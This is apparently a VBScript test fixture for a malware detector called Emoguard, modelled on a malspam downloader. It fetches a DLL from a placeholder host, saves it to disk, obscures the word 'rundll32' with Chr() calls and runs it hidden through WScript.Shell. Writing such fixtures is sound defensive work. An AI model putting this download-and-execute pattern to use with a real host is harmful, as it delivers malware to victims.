' Fixture for Emoguard: the structure of a malspam downloader, harmless (example.invalid only).
Option Explicit
Dim http, stream, shell, url, cmd
url = "http://download.example.invalid/files/invoice.dll"
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", url, False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.ResponseBody
stream.SaveToFile "a.dll", 2
stream.Close
cmd = Chr(114) & Chr(117) & Chr(110) & "dll32 a.dll,DllRegisterServer"
Set shell = CreateObject("WScript.Shell")
shell.Run cmd, 0, False
